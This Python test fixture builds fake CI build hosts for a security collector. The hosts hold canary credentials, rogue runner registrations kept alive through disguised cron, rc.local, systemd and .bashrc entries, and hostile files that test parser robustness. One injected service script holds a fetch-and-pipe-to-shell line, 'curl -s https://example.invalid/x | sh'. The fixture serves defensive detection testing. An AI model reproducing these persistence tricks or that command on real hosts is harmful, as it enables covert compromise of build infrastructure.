"""Fake build-host roots for the host collector tests (no real secret: every value is a canary).

Canary values are made to be found by a substring search, and not to look like
real tokens (no cloud key or token prefixes).  Private key headers are built by
concatenation so that no tracked file holds one.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

#: Every secret value planted by :func:`make_root`, one per file type.
CANARIES = {
    "runner_credentials": "CANARY-runner-cred-5c1d",
    "runner_rsaparams": "CANARY-runner-rsa-8e2a",
    "gitlab_token": "CANARY-gitlab-token-3b7f",
    "aws_key_id": "CANARY-aws-id-0a9c",
    "aws_secret": "CANARY-aws-secret-6d4e",
    "aws_config_secret": "CANARY-aws-config-2f8b",
    "docker_auth": "CANARY-docker-auth-9a1c",
    "kube_token": "CANARY-kube-token-4e6d",
    "npm_token": "CANARY-npm-token-7b3a",
    "pypi_password": "CANARY-pypi-pass-1c5e",
    "gh_token": "CANARY-gh-token-8f2d",
    "git_password": "CANARY-git-pass-3a9b",
    "ssh_key": "CANARY-ssh-body-6c1f",
    "gpg_key": "CANARY-gpg-body-2d7e",
    "gpg_ring": "CANARY-gpg-ring-5a3c",
    "cosign_key": "CANARY-cosign-body-9e4b",
    "runner_env": "CANARY-runner-env-7d2a",
    "broken_ini": "CANARY-broken-ini-4f1e",
    "broken_yaml": "CANARY-broken-yaml-0b6c",
}

KEY_HEADER = "-----BEGIN " + "OPENSSH PRIVATE" + " KEY-----"
KEY_FOOTER = "-----END " + "OPENSSH PRIVATE" + " KEY-----"
COSIGN_HEADER = "-----BEGIN " + "ENCRYPTED SIGSTORE PRIVATE" + " KEY-----"


def write(root: Path, rel: str, text: str | bytes, mode: int | None = None) -> Path:
    path = root / rel.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    if mode is not None:
        os.chmod(path, mode)
    return path


def runner_install(root: Path, folder: str, *, agent_id: int, name: str, url: str, pool: str = "Default",
                   ephemeral: bool = False, service_user: str | None = "runner", unit: str | None = None) -> None:
    """An actions/runner install: .runner (with a BOM, as the runner writes it), credentials, a service unit."""
    settings = {"agentId": agent_id, "agentName": name, "poolId": 1, "poolName": pool,
                "serverUrl": "https://pipelines.actions.example.invalid/abc", "gitHubUrl": url, "workFolder": "_work"}
    if ephemeral:
        settings["ephemeral"] = True
    write(root, f"{folder}/.runner", "\ufeff" + json.dumps(settings, indent=2))
    write(root, f"{folder}/.credentials", json.dumps({"scheme": "OAuth", "data": {
        "clientId": "00000000-0000-0000-0000-000000000000", "authorizationUrl": "https://example.invalid/token",
        "secret": CANARIES["runner_credentials"]}}))
    write(root, f"{folder}/.credentials_rsaparams", json.dumps({"d": CANARIES["runner_rsaparams"]}))
    write(root, f"{folder}/.env", f"LANG=C.UTF-8\nMY_SECRET={CANARIES['runner_env']}\n")
    (root / folder.lstrip("/") / "_work").mkdir(parents=True, exist_ok=True)
    if unit is not None:
        write(root, f"{folder}/.service", unit + "\n")
        lines = ["[Unit]", f"Description=GitHub Actions Runner ({name})", "[Service]",
                 f"ExecStart={folder}/runsvc.sh", f"WorkingDirectory={folder}"]
        if service_user is not None:
            lines.append(f"User={service_user}")
        write(root, f"etc/systemd/system/{unit}", "\n".join(lines) + "\n")


def make_root(tmp: Path, *, everything: bool = True) -> Path:
    """The 'done when' host: two registrations (acme, expected; evil-corp, another org, as root),
    AWS credentials + config, a docker config, a shared tool cache; with ``everything`` one file of
    every credential type the collector knows, a GitLab runner and two malformed files."""
    root = tmp / "root"
    write(root, "etc/hostname", "build-01\n")
    write(root, "etc/os-release", 'ID=debian\n')
    runner_install(root, "/opt/actions-runner", agent_id=101, name="build-01-a", url="https://github.com/acme",
                   pool="shared-linux", unit="actions.runner.acme.build-01-a.service")
    # the rogue one: registered to another org, in root's home, started by root
    runner_install(root, "/root/.cache-svc/ar", agent_id=9001, name="build-01-x", url="https://github.com/evil-corp",
                   service_user=None, unit="actions.runner.evil-corp.build-01-x.service")
    home = "home/runner"
    write(root, f"{home}/.aws/credentials", f"[default]\naws_access_key_id = {CANARIES['aws_key_id']}\n"
          f"aws_secret_access_key = {CANARIES['aws_secret']}\n")
    write(root, f"{home}/.aws/config", "[default]\nregion = eu-west-1\n[profile deploy]\n"
          "role_arn = arn:aws:iam::111122223333:role/acme-ci-builder\nsource_profile = default\n")
    write(root, f"{home}/.docker/config.json", json.dumps({"auths": {"ghcr.io": {"auth": CANARIES["docker_auth"]}}}))
    (root / "opt/hostedtoolcache/node/20.0.0").mkdir(parents=True)
    if not everything:
        return root
    write(root, f"{home}/.kube/config", "apiVersion: v1\nclusters:\n- name: prod\n  cluster:\n"
          "    server: https://k8s.acme.example:6443\nusers:\n- name: ci\n  user:\n"
          f"    token: {CANARIES['kube_token']}\n")
    write(root, f"{home}/.npmrc", f"//registry.npmjs.org/:_authToken={CANARIES['npm_token']}\n")
    write(root, f"{home}/.pypirc", f"[distutils]\nindex-servers = pypi\n[pypi]\nusername = __token__\n"
          f"password = {CANARIES['pypi_password']}\n")
    write(root, f"{home}/.config/gh/hosts.yml", f"github.com:\n  oauth_token: {CANARIES['gh_token']}\n"
          "  user: acme-bot\n")
    write(root, f"{home}/.git-credentials", f"https://acme-bot:{CANARIES['git_password']}@github.com\n")
    write(root, f"{home}/.ssh/id_ed25519", f"{KEY_HEADER}\n{CANARIES['ssh_key']}\n{KEY_FOOTER}\n", mode=0o600)
    write(root, f"{home}/.ssh/id_ed25519.pub", "ssh-ed25519 AAAAfake runner@build-01\n")
    write(root, f"{home}/.gnupg/private-keys-v1.d/ABCDEF.key", f"(protected-private-key {CANARIES['gpg_key']})")
    write(root, "root/.gnupg/secring.gpg", CANARIES["gpg_ring"])
    write(root, f"{home}/release/cosign.key", f"{COSIGN_HEADER}\n{CANARIES['cosign_key']}\n")
    write(root, "etc/gitlab-runner/config.toml", "concurrent = 2\n[[runners]]\n  name = \"gl-build-01\"\n"
          "  url = \"https://gitlab.example.com/\"\n  id = 77\n"
          f"  token = \"{CANARIES['gitlab_token']}\"\n  executor = \"docker\"\n  [runners.docker]\n"
          "    privileged = true\n    volumes = [\"/var/run/docker.sock:/var/run/docker.sock\", \"/cache\"]\n")
    write(root, "var/run/docker.sock", "")
    (root / home / ".cache/pip").mkdir(parents=True)
    # malformed credential files: recorded as present, and their content never echoed in a problem
    write(root, "home/admin/.pypirc", f"this is not ini {CANARIES['broken_ini']}\n[pypi\npassword = x\n")
    write(root, "home/admin/.kube/config", f"users: [{{token: {CANARIES['broken_yaml']}\n")
    # a link out of the root is never followed
    outside = tmp / "outside-secret"
    outside.write_text(f"[default]\naws_secret_access_key = {CANARIES['aws_secret']}-outside\n")
    (root / "home/admin/.aws").mkdir(parents=True)
    os.symlink(outside, root / "home/admin/.aws/credentials")
    return root


# --------------------------------------------------------------------------- a host as an attacker leaves it

#: Canary values of the hideout host (environment values, a hook script's secret, a hostile file's body).
HIDEOUT_CANARIES = {
    "process_env": "CANARY-proc-env-1e9d",
    "hook_secret": "CANARY-hook-secret-5b2c",
    "garbage": "CANARY-garbage-7c4a",
}

#: Where :func:`make_hideouts` plants registrations: ``folder -> (scope/name, how it stays alive)``.
#: Paths and mechanisms follow the GitHub docs ("Configuring the self-hosted runner application as a service":
#: ``svc.sh`` installs ``actions.runner.<scope>.<name>.service``; "Running scripts before or after a job": the
#: ``ACTIONS_RUNNER_HOOK_JOB_STARTED`` variable in the runner's ``.env`` names a script run before every job) and
#: GitLab's (``config.toml`` with ``[[runners]]``, https://docs.gitlab.com/runner/configuration/advanced-configuration/).
HIDEOUTS = {
    "/opt/actions-runner": ("acme/build-01-a", "systemd /etc/systemd/system/actions.runner.acme.build-01-a.service"),
    "/home/dev/.local/share/.node-gyp/ar": ("evil/worm-1", "profile /home/dev/.bashrc:3 (nohup, &)"),
    "/root/.cache/.fontconfig/r": ("evil/worm-2", "systemd-user /root/.config/systemd/user/dbus-session.service"),
    "/tmp/.X11-lock/ar": ("evil/worm-3", "cron /var/spool/cron/crontabs/dev:2"),
    "/dev/shm/.r": ("evil/worm-4", "cron@reboot /etc/cron.d/sysstat-collect:2"),
    "/etc/.pki-cache/ar": ("evil/worm-5", "rc /etc/rc.local:2 (setsid, &)"),
    "/usr/lib/x86_64-linux-gnu/.ld/ar": ("evil/worm-6", "session session-3.scope"),
    "/opt/vendor/a/b/c/d/e/f/g/h/ar": ("evil/worm-7", "session session-4.scope (tmux)"),
    "/var/lib/containers/storage/overlay/0a/diff/x/y/ar": ("evil/worm-8",
                                                          "job-hook /usr/local/lib/ci-hooks/pre-job.sh:2 (nohup, &)"),
    "/var/tmp/.cache/ar": ("evil/worm-9", "systemd /etc/systemd/system/snapd-refresh.service"),
    "/home/dev/.gitlab-runner": ("gitlab.example.com/gl-hidden", "cron@reboot /var/spool/cron/crontabs/dev:3"),
}


def _proc(root: Path, pid: int, comm: str, *, argv0: str, uid: int, ppid: int, cwd: str, cgroup: str,
          env: dict[str, str]) -> None:
    """A ``/proc/PID`` folder as proc(5) lays it out (only the files the collector reads)."""
    base = f"proc/{pid}"
    write(root, f"{base}/comm", comm + "\n")
    write(root, f"{base}/cmdline", (argv0 + "\0run\0").encode())
    write(root, f"{base}/status", f"Name:\t{comm}\nPPid:\t{ppid}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\n")
    fields = ["S", str(ppid)] + ["0"] * 17 + ["123400"] + ["0"] * 10
    write(root, f"{base}/stat", f"{pid} ({comm}) " + " ".join(fields) + "\n")
    write(root, f"{base}/cgroup", f"0::{cgroup}\n")
    write(root, f"{base}/environ", "".join(f"{k}={v}\0" for k, v in env.items()).encode())
    os.symlink(cwd, root / base / "cwd")


def _hideout_starters(root: Path) -> None:
    """What keeps each planted registration alive (see :data:`HIDEOUTS`)."""
    write(root, "home/dev/.bashrc", "export PATH=$PATH:~/bin\n# start helper\n"
          "nohup /home/dev/.local/share/.node-gyp/ar/run.sh >/dev/null 2>&1 &\n")
    write(root, "root/.config/systemd/user/dbus-session.service",
          "[Unit]\nDescription=D-Bus session helper\n[Service]\nWorkingDirectory=/root/.cache/.fontconfig/r\n"
          "ExecStart=/root/.cache/.fontconfig/r/run.sh\nRestart=always\n[Install]\nWantedBy=default.target\n")
    write(root, "var/spool/cron/crontabs/dev", "# m h dom mon dow command\n*/5 * * * * /tmp/.X11-lock/ar/run.sh\n"
          "@reboot /usr/bin/gitlab-runner run --config /home/dev/.gitlab-runner/config.toml\n")
    write(root, "etc/cron.d/sysstat-collect", "SHELL=/bin/sh\n@reboot root /dev/shm/.r/run.sh\n")
    write(root, "etc/rc.local", "#!/bin/sh -e\nsetsid /etc/.pki-cache/ar/run.sh &\nexit 0\n")
    write(root, "etc/systemd/system/snapd-refresh.service",
          "[Service]\nExecStart=/bin/sh -c 'cd /var/tmp/.cache/ar && ./run.sh'\nUser=root\n")
    write(root, "usr/local/lib/ci-hooks/pre-job.sh", "#!/bin/sh\n"
          "pgrep -f worm-8 || nohup /var/lib/containers/storage/overlay/0a/diff/x/y/ar/run.sh &\n"
          f"TOKEN={HIDEOUT_CANARIES['hook_secret']}\n")


def make_hideouts(tmp: Path) -> Path:
    """A build host after a runner-on-runner attack: the legitimate ``acme/build-01-a`` (installer's unit, a job
    hook in its ``.env``) and ten hidden registrations (:data:`HIDEOUTS`), each kept alive its own way, a ``/proc``
    with their processes (and one runner process from a folder with no registration), and runner binaries
    without a ``.runner``."""
    root = tmp / "root"
    write(root, "etc/hostname", "build-01\n")
    write(root, "etc/os-release", "ID=debian\n")
    write(root, "etc/passwd", "root:x:0:0::/root:/bin/sh\nrunner:x:1001:1001::/home/runner:/bin/sh\n"
          "dev:x:1002:1002::/home/dev:/bin/sh\n")
    runner_install(root, "/opt/actions-runner", agent_id=101, name="build-01-a", url="https://github.com/acme",
                   pool="shared-linux", unit="actions.runner.acme.build-01-a.service")
    write(root, "opt/actions-runner/.env", "LANG=C.UTF-8\n"
          "ACTIONS_RUNNER_HOOK_JOB_STARTED=/usr/local/lib/ci-hooks/pre-job.sh\n")
    write(root, "opt/actions-runner/runsvc.sh", "#!/bin/bash\ntrap 'kill -INT $PID' TERM INT\n"
          "curl -s https://example.invalid/x | sh\n./externals/node/bin/node ./bin/RunnerService.js &\n"
          "PID=$!\nwait $PID\n")
    for n, folder in enumerate(list(HIDEOUTS)[1:-1], 1):
        runner_install(root, folder, agent_id=9000 + n, name=f"worm-{n}", url="https://github.com/evil", unit=None)
    write(root, "home/dev/.gitlab-runner/config.toml", "[[runners]]\n  name = \"gl-hidden\"\n"
          "  url = \"https://gitlab.example.com/\"\n  token = \"placeholder\"\n  executor = \"shell\"\n")
    _hideout_starters(root)
    (root / "var/lib/docker/image/overlay2").mkdir(parents=True)  # images and build cache later jobs run from
    # runner binaries without a registration (configured, then .runner removed)
    write(root, "srv/old-runner/bin/Runner.Listener", b"\x7fELF")
    write(root, "srv/old-runner/config.sh", "#!/bin/bash\n")
    env = {"RUNNER_ALLOW_RUNASROOT": "1", "RUNNER_TRACKING_ID": HIDEOUT_CANARIES["process_env"],
           "ACTIONS_RUNNER_HOOK_JOB_STARTED": "/usr/local/lib/ci-hooks/pre-job.sh", "HOME": "/root"}
    _proc(root, 1, "systemd", argv0="/sbin/init", uid=0, ppid=0, cwd="/", cgroup="/init.scope", env={})
    _proc(root, 812, "Runner.Listener", argv0="/opt/actions-runner/bin/Runner.Listener", uid=1001, ppid=811,
          cwd="/opt/actions-runner", cgroup="/system.slice/actions.runner.acme.build-01-a.service", env=env)
    _proc(root, 811, "node", argv0="/opt/actions-runner/externals/node/bin/node", uid=1001, ppid=1,
          cwd="/opt/actions-runner", cgroup="/system.slice/actions.runner.acme.build-01-a.service", env={})
    _proc(root, 4242, "Runner.Listener", argv0="/usr/lib/x86_64-linux-gnu/.ld/ar/bin/Runner.Listener", uid=0,
          ppid=1, cwd="/usr/lib/x86_64-linux-gnu/.ld/ar", cgroup="/user.slice/user-0.slice/session-3.scope", env=env)
    _proc(root, 5150, "tmux: server", argv0="tmux", uid=0, ppid=1, cwd="/root",
          cgroup="/user.slice/user-0.slice/session-4.scope", env={})
    _proc(root, 5151, "Runner.Listener", argv0="./bin/Runner.Listener", uid=0, ppid=5150,
          cwd="/opt/vendor/a/b/c/d/e/f/g/h/ar", cgroup="/user.slice/user-0.slice/session-4.scope", env=env)
    _proc(root, 6000, "Runner.Listener", argv0="/var/tmp/.q/bin/Runner.Listener", uid=0, ppid=1,
          cwd="/var/tmp/.q", cgroup="/user.slice/user-0.slice/session-5.scope", env={})
    return root


def plant_hostile(root: Path, tmp: Path) -> dict[str, str]:
    """One hostile file per kind, each where the collector reads: ``kind -> host path``.  The device file is a
    character device (made only when allowed: the tests run as root in CI)."""
    planted = {
        "deep nesting": "/home/dev/.docker/config.json",
        "deep nesting (.runner)": "/srv/deep/.runner",
        "huge file": "/home/dev/.npmrc",
        "binary garbage": "/srv/garbage/.runner",
        "FIFO": "/home/dev/.aws/credentials",
        "device": "/home/dev/.kube/config",
        "symlink loop": "/home/dev/.pypirc",
        "link out of the root": "/home/dev/.git-credentials",
    }
    write(root, planted["deep nesting"], "[" * 200_000 + "]" * 200_000)
    write(root, planted["deep nesting (.runner)"], '{"a":' * 100_000 + "1" + "}" * 100_000)
    huge = root / planted["huge file"].lstrip("/")
    with open(huge, "wb") as fh:  # sparse: large to stat, nothing written
        fh.truncate(64 << 20)
    write(root, planted["binary garbage"], os.urandom(4096) + HIDEOUT_CANARIES["garbage"].encode() + b"\0\xff")
    (root / "home/dev/.aws").mkdir(parents=True, exist_ok=True)
    os.mkfifo(root / planted["FIFO"].lstrip("/"))
    (root / "home/dev/.kube").mkdir(parents=True, exist_ok=True)
    try:
        os.mknod(root / planted["device"].lstrip("/"), 0o600 | __import__("stat").S_IFCHR, os.makedev(1, 3))
    except PermissionError:  # not root: a socket stands in for the device (both are never opened)
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(root / planted["device"].lstrip("/")))
        s.close()
    os.symlink("loop-b", root / "home/dev/loop-a")
    os.symlink("loop-a", root / "home/dev/loop-b")
    os.symlink("loop-a", root / planted["symlink loop"].lstrip("/"))
    os.symlink(tmp / "outside", root / planted["link out of the root"].lstrip("/"))
    (tmp / "outside").write_text("https://u:p@example.invalid\n")
    os.symlink("/", root / "home/dev/to-root")  # a link to / inside the root: listed, never walked
    os.makedirs(root / "var/tmp" / "/".join(["d"] * 60))  # folders nested deeper than the search goes
    return planted
